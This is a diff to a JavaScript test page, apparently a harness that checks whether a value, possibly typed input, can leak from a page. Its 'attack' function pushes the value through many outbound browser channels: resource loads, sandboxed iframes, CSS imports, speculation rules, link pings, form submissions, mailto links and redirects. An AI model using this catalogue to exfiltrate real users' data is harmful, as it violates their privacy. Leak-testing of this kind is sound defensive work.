@@ -33,7 +33,7 @@ const add = (tag, more, parent = document.body) => quiet(() => {
   const e = document.createElement(tag);
   for (const [key, value] of Object.entries(more)) e.setAttribute(key, value);
   parent.append(e); return e; });
-const register = ServiceWorkerContainer.prototype.register;   // the page's own copy, in case somebody replaced the other
+const register = ServiceWorkerContainer.prototype.register;   // in case somebody replaced the other
 quiet(() => register.call(navigator.serviceWorker, "/sw.js"));
 let shared; quiet(() => { shared = new SharedWorker("/shared.js"); shared.port.start(); });
 fetch("/ping"); fetch("/bit0"); fetch("/bit1");
@@ -72,25 +72,29 @@ function attack(v, turn) {
     for (const tag of ["img", "script", "video", "embed", "iframe", "track", "source"]) add(tag, {src: u(tag)});
     add("object", {data: u("object")});
     add("iframe", {srcdoc: `<img src="${u("srcdoc")}"><meta http-equiv=refresh content="0; url=${u("srcdocmeta")}">`});
-    add("iframe", {sandbox: "allow-scripts", srcdoc: `<script>fetch("${u("sandbox")}", {mode: "no-cors"})</` + "script>"});
+    const boxed = `<script>fetch("${u("sandbox")}", {mode: "no-cors"})</` + "script>";
+    add("iframe", {sandbox: "allow-scripts", srcdoc: boxed});
     add("style", {}).textContent = `@import "${u("import")}"; body { background: url("${u("css")}") }
       @font-face { font-family: a; src: url("${u("font")}") } p { font-family: a }`;
     document.body.insertAdjacentHTML("beforeend", `<p>x</p><svg><image href="${u("svg")}"></svg>`);
-    quiet(() => add("script", {type: "speculationrules"}, document.head).append(JSON.stringify({
-      prefetch: [{source: "list", urls: [u("speculated")]}], prerender: [{source: "list", urls: [u("prerendered")]}]})));
+    const rules = Object.assign(document.createElement("script"), {type: "speculationrules"});
+    rules.textContent = JSON.stringify({prefetch: [{source: "list", urls: [u("speculated")]}],
+                                        prerender: [{source: "list", urls: [u("prerendered")]}]});
+    document.head.append(rules);
     quiet(() => window.open(u("popup"), "_blank", "noopener"));
     quiet(() => Object.assign(document.createElement("a"), {href: u("download"), download: "x"}).click());
     quiet(() => Object.assign(document.createElement("a"), {href: "#", ping: u("ping")}).click());
     for (const method of ["get", "post"]) {
       const f = add("form", {method, action: u("form" + method), target: "_blank"});
       add("input", {name: "d", value: v}, f); quiet(() => f.submit()); }
+    add("iframe", {src: "mailto:x@example.org?body=" + v});
     if (turn !== "typing") continue;    // at the press these would replace the submission itself
     add("meta", {"http-equiv": "refresh", content: `0; url=${u("meta")}`}, document.head);
     quiet(() => { location.href = u("location"); });
   }
-  for (const name of ["Priority", "Upgrade-Insecure-Requests", "User-Agent", "Accept", "Accept-Language", "X-New", "DPR",
-      "Authorization", "Content-Type", "Cache-Control", "Range", "Last-Event-ID", "If-None-Match", "Width", "Save-Data",
-      "Sec-CH-Width", "Viewport-Width", "X-Http-Method-Override", "Purpose", "TE", "Date", "Via", "DNT"])
+  for (const name of ["Priority", "Upgrade-Insecure-Requests", "User-Agent", "Accept", "Accept-Language", "X-New",
+      "DPR", "Authorization", "Content-Type", "Cache-Control", "Range", "Last-Event-ID", "If-None-Match", "Width",
+      "Save-Data", "Sec-CH-Width", "Viewport-Width", "X-Http-Method-Override", "Purpose", "TE", "Date", "Via", "DNT"])
     quiet(() => fetch("/ping", {headers: {[name]: b}, cache: "reload"}));
   quiet(() => fetch("/ping", {headers: {"X-Http-Method-Override": "DELETE"}, cache: "reload"}));
   add("iframe", {src: "/frame", width: "4821", height: "3"});
